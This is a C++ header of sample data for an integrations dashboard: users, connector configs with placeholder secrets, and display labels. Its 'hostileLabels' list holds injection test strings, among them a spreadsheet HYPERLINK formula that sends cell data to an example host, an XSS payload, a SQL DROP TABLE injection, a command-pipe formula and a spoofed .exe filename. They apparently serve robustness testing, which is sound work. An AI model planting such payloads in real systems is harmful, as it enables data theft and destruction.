// SPDX-FileCopyrightText: 2026 The Mielto Connections authors
// SPDX-License-Identifier: Apache-2.0
#pragma once

#include <array>
#include <string_view>

#include "app/data/knownvalues.h"

// What the sample data are made of. Labels and configs are JSON text (escapes included), so that
// what travels is exactly what stands here.
namespace mielto::sample {

using Type = IntegrationType;

struct User {
    std::string_view id;
    int count;
};

inline constexpr std::array<User, 12> users{{
    {"usr_8f3a1c52e9b74d06", 240},
    {"usr_41d7be0953ac4f28", 3000},
    {"usr_c09e6a7714f24b8d", 1001},
    {"usr_27b5f38ad6e1490c", 1000},
    {"usr_e61c0d94a2b8473f", 999},
    {"usr_anna+eu@example.com", 120},
    {"usr_95ac2f7b08d34e61", 64},
    {"usr_3d80e5c6f19a42b7", 37},
    {"usr_b74f19d2053e4ca8", 18},
    {"usr_0c6ea8f5b7d9413e", 5},
    {"usr_f28b47e03c5d4a91", 1},
    {"usr_6ad1935ce07f4b2e", 0},
}};

/// In `config`, `$h` stands for 16 hexadecimal digits, `$i` for a 64-bit id, `$n` for a small
/// number.
struct Integration {
    std::string_view name;
    Type type;
    std::string_view title;
    std::string_view config;
};

inline constexpr std::array<Integration, 26> integrations{{
    {"slack", Type::Connectors, "Slack",
        R"({"team_id":"T0$n7K2QX","channels":["#support","#alerts-$n"],"bot_token":"sample-not-a-secret-$h","notify":{"on_error":true,"mentions":["@oncall"],"quiet_hours":{"from":"22:00","to":"06:00","days":[6,7]}}})"},
    {"github", Type::Connectors, "GitHub",
        R"({"installation_id":$i,"repositories":["acme/web","acme/billing-$n"],"private_key":"sample-not-a-secret-$h","sync":{"issues":true,"pull_requests":{"states":["open","merged"],"max_age_days":$n}}})"},
    {"google_drive", Type::Connectors, "Google Drive",
        R"({"folder_id":"1A$hQ","client_id":"$n.apps.example.com","client_secret":"sample-not-a-secret-$h","include_shared":true,"mime_types":["application/pdf","text/markdown"]})"},
    {"notion", Type::Connectors, "Notion",
        R"({"database_id":"$h","access_token":"sample-not-a-secret-$h","page_size":100})"},
    {"salesforce", Type::Connectors, "Salesforce",
        R"({"instance_url":"https://acme-$n.my.salesforce.example","api_version":"59.0","oauth":{"client_id":"3MVG9$h","client_secret":"sample-not-a-secret-$h","refresh":{"token":"sample-not-a-secret-$h","every_minutes":$n}},"objects":["Account","Contact","Opportunity"]})"},
    {"jira", Type::Connectors, "Jira",
        R"({"site":"acme.atlassian.example","project_keys":["OPS","WEB"],"email":"sync-$n@example.com","api_token":"sample-not-a-secret-$h"})"},
    {"hubspot", Type::Connectors, "HubSpot",
        R"({"portal_id":$i,"scopes":["crm.objects.contacts.read","crm.lists.read"],"access_token":"sample-not-a-secret-$h"})"},
    {"zendesk", Type::Connectors, "Zendesk",
        R"({"subdomain":"acme-$n","views":[$i,$i],"api_key":"sample-not-a-secret-$h"})"},
    {"confluence", Type::Connectors, "Confluence",
        R"({"spaces":["ENG","HR"],"attachments":false,"password":"sample-not-a-secret-$h"})"},
    {"linear", Type::Connectors, "Linear",
        R"({"team":"PLAT","api_key":"sample-not-a-secret-$h","labels":[]})"},
    {"github_mcp", Type::Mcp, "GitHub MCP",
        R"({"transport":"streamable_http","url":"https://mcp-$n.example.com/github","headers":{"Authorization":"Bearer sample-not-a-secret-$h"},"tools":{"allow":["search_code","get_issue"],"deny":["delete_repository"]}})"},
    {"sentry_mcp", Type::Mcp, "Sentry MCP",
        R"({"transport":"stdio","command":"sentry-mcp","args":["--organisation","acme"],"env":{"SENTRY_TOKEN":"sample-not-a-secret-$h","LOG_LEVEL":"info"}})"},
    {"playwright_mcp", Type::Mcp, "Playwright MCP",
        R"({"transport":"stdio","command":"playwright-mcp","args":["--headless"],"timeout_ms":1e3})"},
    {"web_search", Type::Tool, "Web search",
        R"({"provider":"example-search","api_key":"sample-not-a-secret-$h","results":$n,"safe":true})"},
    {"code_interpreter", Type::Tool, "Code interpreter",
        R"({"image":"python:3.12","limits":{"cpu":0.50,"memory_mb":512,"network":null}})"},
    {"openai", Type::Model, "OpenAI",
        R"({"model":"gpt-sample","temperature":0.70,"max_tokens":4096,"api_key":"sample-not-a-secret-$h","organization":"org-$h"})"},
    {"anthropic", Type::Model, "Anthropic",
        R"({"model":"claude-sample","max_tokens":8192,"temperature":1e0,"api_key":"sample-not-a-secret-$h","metadata":{"cost_centre":$n}})"},
    {"azure_openai", Type::Model, "Azure OpenAI",
        R"({"endpoint":"https://acme-$n.openai.example","deployments":[{"name":"chat","capacity":{"tpm":1.2E+5,"rpm":720}},{"name":"embed","capacity":{"tpm":350000,"rpm":2100}}],"api_key":"sample-not-a-secret-$h"})"},
    {"erp_bridge", Type::Custom, "ERP bridge",
        R"({"host":"erp-$n.internal.example","tenant":$i,"mapping":{"customer":{"id":"KUNNR","name":{"field":"NAME1","max":35}}},"password":"sample-not-a-secret-$h"})"},
    {"legacy_crm", Type::Custom, "Legacy CRM",
        R"({"dsn":"crm-$n","batch":250,"enabled":true,"last_id":$i})"},
    {"s3", Type::Storage, "S3",
        R"({"bucket":"acme-exports-$n","region":"eu-central-1","access_key_id":"SAMPLE$n","secret_access_key":"sample-not-a-secret-$h","prefixes":["daily/","weekly/"],"lifecycle":{"expire_days":$n,"rules":[{"prefix":"tmp/","days":1}]}})"},
    {"postgres", Type::Storage, "Postgres",
        R"({"host":"db-$n.internal.example","port":5432,"database":"analytics","user":"reader","password":"sample-not-a-secret-$h","ssl":{"mode":"verify-full","ca":null},"pool":{"min":1,"max":$n}})"},
    {"gcs", Type::Storage, "Cloud Storage",
        R"({"bucket":"acme-archive-$n","project":"acme-data","credentials":{"type":"service_account","private_key_id":"$h","private_key":"sample-not-a-secret-$h"}})"},
    {"stripe", Type::Api, "Stripe",
        R"({"account":"acct_$h","secret_key":"sample-not-a-secret-$h","webhook":{"id":$i,"events":["invoice.paid","charge.refunded"],"signing_secret":"sample-not-a-secret-$h"}})"},
    {"twilio", Type::Api, "Twilio",
        R"({"account_sid":"AC$h","auth_token":"sample-not-a-secret-$h","from":"+1555010$n"})"},
    {"weather", Type::Api, "Weather",
        R"({"base_url":"https://weather.example.com/v3","units":"metric","retry":{"times":3,"factor":1.50}})"},
}};

inline constexpr std::array<std::string_view, 16> teams{"Support team", "Sales", "Marketing",
    "Finance", "People", "Platform", "Data science", "Legal", "Field service", "Partners",
    "Incident room", "Release train", "Customer success", "Procurement", "Research", "Security"};
inline constexpr std::array<std::string_view, 10> places{
    "prod", "staging", "sandbox", "EU", "US", "APAC", "backup", "QA", "demo tenant", "read-only"};

inline constexpr std::array<std::string_view, 14> worldLabels{"Slack – サポートチーム",
    "東京オフィスの共有ドライブ", "تكامل المبيعات – الرياض", "חיבור לצוות התמיכה",
    "ฐานข้อมูลลูกค้า – กรุงเทพฯ", "🚀 Launch room 🎉", "👩🏽‍💻 Dev tools 🇩🇪",
    "销售数据仓库（上海）", "고객 지원 슬랙", "Поддержка – Слак", "Größenänderung – Zürich",
    "Ελληνική ομάδα", "हिंदी सहायता", "CRM (ישן) – 2019 → 2026"};

inline constexpr std::array<std::string_view, 14> hostileLabels{
    R"(=HYPERLINK(\"http://example.com/?x=\"&A1,\"Open\"))", R"(<img src=x onerror=alert(1)>)",
    R"(<b>bold?</b> &amp; <a href='x'>link</a>)",
    R"(bell \u0007 and escape \u001b[31mred\u001b[0m)", R"(invoice\u202Efdp.exe)", R"(%1 &File %2)",
    R"(+1+1|cmd)", R"(@SUM(A1:A9))", R"(two\r\nlines\tand a tab)", R"(\u0000 starts with NUL)",
    R"(-2+3)", R"(zero\u200bwidth\u2066isolate\u2069)", R"(Robert'); DROP TABLE connections;--)",
    R"(c1 \u009b31m and \u2028 separator)"};

/// A row of the first user that is written by hand, because it is what people see first.
struct FrontRow {
    std::string_view integration;
    std::string_view label;
    Status status;
    int updatedMinutes;
    int createdDays;
};

inline constexpr std::array<FrontRow, 30> frontRows{{
    {"slack", "Slack – Support team", Status::Active, 4, 212},
    {"github", "GitHub prod", Status::Active, 11, 388},
    {"google_drive", "Google Drive – Contracts", Status::Active, 37, 167},
    {"salesforce", "Salesforce EMEA", Status::Error, 52, 301},
    {"openai", "OpenAI – Assistant", Status::Active, 95, 96},
    {"postgres", "Postgres analytics (read-only)", Status::Active, 140, 254},
    {"notion", "Notion – Engineering wiki", Status::Active, 205, 143},
    {"s3", "S3 – Nightly exports", Status::Active, 366, 420},
    {"stripe", "Stripe billing", Status::Expired, 1450, 275},
    {"github_mcp", "GitHub MCP – Code search", Status::Active, 610, 33},
    {"jira", "Jira – Platform board", Status::Active, 890, 198},
    {"anthropic", "Anthropic – Summaries", Status::Testing, 18, 2},
    {"zendesk", "Zendesk EU", Status::Active, 1980, 331},
    {"hubspot", "HubSpot – Marketing", Status::Active, 2600, 120},
    {"slack", "Slack – Incident room", Status::Active, 71, 64},
    {"web_search", "Web search", Status::Active, 3300, 88},
    {"gcs", "Cloud Storage – Archive", Status::Inactive, 88200, 402},
    {"confluence", "Confluence – Handbook", Status::Active, 4700, 240},
    {"azure_openai", "Azure OpenAI (West Europe)", Status::Active, 5900, 51},
    {"twilio", "Twilio – SMS alerts", Status::Active, 7400, 310},
    {"linear", "Linear – Mobile", Status::Active, 9100, 77},
    {"erp_bridge", "ERP bridge – Warehouse", Status::Error, 27, 180},
    {"sentry_mcp", "Sentry MCP", Status::Active, 12600, 45},
    {"google_drive", "Google Drive – Finance", Status::Active, 15800, 289},
    {"postgres", "Postgres staging", Status::Testing, 320, 9},
    {"github", "GitHub – Mobile apps", Status::Active, 20100, 365},
    {"weather", "Weather data", Status::Active, 26400, 134},
    {"legacy_crm", "Legacy CRM import", Status::Inactive, 132000, 415},
    {"slack", "Slack – Sales (US)", Status::Active, 31000, 226},
    {"code_interpreter", "Code interpreter", Status::Active, 43000, 58},
}};

} // namespace mielto::sample
